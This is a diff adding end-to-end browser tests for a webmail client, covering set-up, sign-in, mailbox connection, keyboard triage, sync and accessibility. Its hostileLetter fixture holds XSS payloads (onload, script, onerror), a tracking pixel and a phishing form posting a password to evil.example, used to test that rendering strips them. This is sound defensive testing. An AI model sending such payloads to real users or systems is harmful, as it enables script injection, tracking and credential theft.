@@ -1,0 +1,221 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { asAnotherClient, flagsAtServer, uidOf } from '../fixtures/another-client.ts'
+import { type BrowserUser, openBrowser } from '../fixtures/browser-user.ts'
+import { deliver } from '../fixtures/deliver.ts'
+import { type Dovecot, startDovecot } from '../fixtures/dovecot.ts'
+import { generateMailbox, loadMailbox } from '../fixtures/mailbox.ts'
+import { type PlMail, showLogOnFailure, startPlMail } from '../fixtures/plmail.ts'
+import { type SmtpSink, startSmtpSink } from '../fixtures/smtp-sink.ts'
+import { administrator } from '../fixtures/visitor.ts'
+
+/** What a person does on the first day, with a real browser and by keyboard where there are keys for it. */
+const [user, password] = ['ada@example.org', 'mailbox password']
+const letter = { subject: 'The newsletter of a stranger', id: 'stranger@example.net' }
+
+let dovecot: Dovecot
+let smtp: SmtpSink
+let plmail: PlMail
+let ada: BrowserUser
+
+beforeAll(async () => {
+  dovecot = await startDovecot()
+  dovecot.addUser(user, password)
+  smtp = await startSmtpSink({ users: { [user]: password } })
+  await loadMailbox(dovecot, user, generateMailbox({ count: 300, seed: 11, until: new Date() }))
+  await deliver(dovecot, user, hostileLetter())
+  plmail = await startPlMail({ trusts: [dovecot, smtp] })
+  ada = await openBrowser(plmail.address)
+})
+beforeEach(() => showLogOnFailure(() => plmail))
+afterAll(async () => {
+  await ada?.[Symbol.asyncDispose]()
+  await plmail?.[Symbol.asyncDispose]()
+  await smtp?.[Symbol.asyncDispose]()
+  await dovecot?.[Symbol.asyncDispose]()
+})
+
+const row = (subject: string) => ada.page.getByRole('row').filter({ hasText: subject })
+const openThread = () => ada.page.getByRole('region', { name: 'Conversation' })
+const press = (...keys: string[]) =>
+  keys.reduce((done, key) => done.then(() => ada.page.keyboard.press(key)), ready)
+const ready = Promise.resolve()
+const flags = (folder: string) => flagsAtServer(dovecot, user, folder, letter.id)
+
+describe('from an empty installation to mail on the screen', () => {
+  test('the set-up page makes the administrator', async () => {
+    const { page } = ada
+    await page.goto(plmail.address)
+    expect(await ada.violations()).toEqual([])
+    await page.getByLabel('Your name').fill(administrator.name)
+    await page.getByLabel('Email address').fill(administrator.email)
+    await page.getByLabel('Password').fill(administrator.password)
+    await page.getByLabel('Dates and numbers').selectOption('de')
+    await page.getByLabel('Time zone').selectOption('Europe/Berlin')
+    await press('Enter')
+    await page.getByRole('heading', { name: `Welcome, ${administrator.name}` }).waitFor()
+  })
+
+  test('the sign-in page lets in with the password', async () => {
+    const { page } = ada
+    await page.context().clearCookies()
+    await page.goto(plmail.address)
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
+    expect(await ada.violations()).toEqual([])
+    await page.getByLabel('Email address').fill(administrator.email)
+    await page.getByLabel('Password').fill(administrator.password)
+    await press('Enter')
+    await page.getByRole('heading', { name: `Welcome, ${administrator.name}` }).waitFor()
+    expect(await ada.violations()).toEqual([])
+  })
+
+  test('a connected mailbox shows its newest mail within 10 s', async () => {
+    const { page } = ada
+    await page.getByLabel('Email address').fill(user)
+    await press('Enter')
+    await page.getByLabel('Password').fill(password)
+    for (const [name, server] of [
+      ['Incoming mail (IMAP)', dovecot],
+      ['Outgoing mail (SMTP)', smtp],
+    ] as const) {
+      const group = page.getByRole('group', { name })
+      await group.getByLabel('Server').fill(server.host)
+      await group.getByLabel('Encryption').selectOption('tls')
+      await group.getByLabel('Port').fill(String(server.tlsPort))
+    }
+    expect(await ada.violations()).toEqual([])
+    await page.getByRole('button', { name: 'Connect' }).click()
+    await row(letter.subject).waitFor({ timeout: 10_000 })
+    expect(await ada.violations()).toEqual([])
+  })
+
+  test('dates are written as chosen at set-up', async () => {
+    const title = await row(letter.subject).locator('time').getAttribute('title')
+    expect(title).toMatch(/^(\p{L}+tag|Mittwoch), \d+\. /u)
+  })
+})
+
+describe('reading and deciding by keyboard', () => {
+  test('a stranger’s letter opens without script, form or request, and is read at the mail server', async () => {
+    const { page } = ada
+    await press('j', 'Enter')
+    await openThread().getByRole('heading', { name: letter.subject }).waitFor()
+    const body = openThread().locator('iframe').contentFrame()
+    await body.getByText('Dear reader').waitFor()
+    expect(await body.locator('script:not([nonce]), form, [onload], [src^=http]').count()).toBe(0)
+    await page.getByRole('button', { name: 'Show 1 image' }).waitFor()
+    expect(await ada.violations()).toEqual([])
+    await expect.poll(() => flags('INBOX')).toContain('\\Seen')
+  })
+
+  test('a star, and unread again', async () => {
+    await press('s')
+    await expect.poll(() => flags('INBOX')).toContain('\\Flagged')
+    await press('Shift+U')
+    await expect.poll(() => flags('INBOX')).not.toContain('\\Seen')
+  })
+
+  test.each([
+    ['archive', 'e', 'Archived', 'Archive'],
+    ['delete', '#', 'Moved to Trash', 'Trash'],
+  ])('%s, and undo', async (_verb, key, said, folder) => {
+    await press(key)
+    await ada.page.getByText(said, { exact: true }).waitFor()
+    await row(letter.subject).waitFor({ state: 'detached' })
+    await expect.poll(() => flags(folder)).toBeDefined()
+    expect(await flags('INBOX')).toBeUndefined()
+    await press('z')
+    await row(letter.subject).waitFor()
+    await expect.poll(() => flags('INBOX')).toBeDefined()
+    expect(await flags(folder)).toBeUndefined()
+    await press('Home')
+  })
+})
+
+describe('what another program does appears by itself', () => {
+  const news = { subject: 'Written just now', id: 'just.now@example.net' }
+  const elsewhere = (work: (uid: number, client: Parameters<typeof uidOf>[0]) => Promise<unknown>) =>
+    asAnotherClient(dovecot, user, 'INBOX', async (client) => work((await uidOf(client, news.id))!, client))
+
+  test('a new message, a star and a move', async () => {
+    const { page } = ada
+    await deliver(
+      dovecot,
+      user,
+      `Message-ID: <${news.id}>\r\nFrom: New <new@example.net>\r\nSubject: ${news.subject}\r\n\r\nHello`,
+    )
+    await row(news.subject).waitFor()
+    await elsewhere((uid, client) => client.messageFlagsAdd([uid], ['\\Flagged'], { uid: true }))
+    await row(news.subject).getByRole('button', { name: 'Remove star' }).waitFor()
+    await row(news.subject).getByText(news.subject).click()
+    await openThread().getByRole('heading', { name: news.subject }).waitFor()
+    await elsewhere((uid, client) => client.messageMove([uid], 'Archive', { uid: true }))
+    await row(news.subject).waitFor({ state: 'detached' })
+    await press('u')
+    await page.getByText('No conversation open').waitFor()
+  })
+})
+
+describe('every other screen', () => {
+  test.each([
+    ['move dialog', ['j', 'v']],
+    ['commands', ['Control+k']],
+    ['shortcuts', ['?']],
+  ])('%s: no barrier', async (_name, keys) => {
+    await press(...keys)
+    await ada.page.getByRole('dialog').waitFor()
+    expect(await ada.violations()).toEqual([])
+    await press('Escape')
+    await ada.page.getByRole('dialog').waitFor({ state: 'detached' })
+  })
+
+  test.each([
+    ['accounts', 'Accounts'],
+    ['add-account', 'Add an account'],
+    ['display', 'Display'],
+    ['security', 'Security'],
+    ['jobs', 'Jobs'],
+  ])('settings: %s', async (page, heading) => {
+    await ada.page.goto(`${plmail.address}/settings/${page}`)
+    await ada.page.getByRole('heading', { name: heading, level: 1 }).waitFor()
+    expect(await ada.violations()).toEqual([])
+  })
+
+  test('the way dates are written can be changed', async () => {
+    const { page } = ada
+    await page.goto(`${plmail.address}/settings/display`)
+    await page.getByLabel('Dates and numbers').selectOption('en-US')
+    await Promise.all([page.waitForEvent('load'), page.getByRole('button', { name: 'Save' }).click()])
+    await page.goto(`${plmail.address}/mail/inbox`)
+    const title = await row(letter.subject).locator('time').getAttribute('title')
+    expect(title).toMatch(/^\w+day, \w+ \d+, /)
+  })
+
+  test('signing out ends at the sign-in page, also for an address deep inside', async () => {
+    const { page } = ada
+    await page.getByRole('link', { name: 'Settings' }).click()
+    await page.getByRole('link', { name: 'Security' }).click()
+    await page.getByRole('button', { name: 'Sign out', exact: true }).click()
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
+    await page.goto(`${plmail.address}/settings/display`)
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor()
+    expect(new URL(page.url()).searchParams.get('next')).toBe('/settings/display')
+  })
+})
+
+test('the browser had nothing to complain about', () => {
+  expect(ada.complaints).toEqual([])
+})
+
+function hostileLetter(): string {
+  return [
+    `Message-ID: <${letter.id}>`,
+    'From: Stranger <stranger@example.net>',
+    `Subject: ${letter.subject}`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<body onload="alert(1)"><script>alert(2)</script><p>Dear reader</p>',
+    '<img src="https://tracker.example/seen.gif" width="40" height="40" onerror="alert(3)">',
+    '<form action="https://evil.example/"><input name="password"><button>Go</button></form></body>',
+  ].join('\r\n')
+}
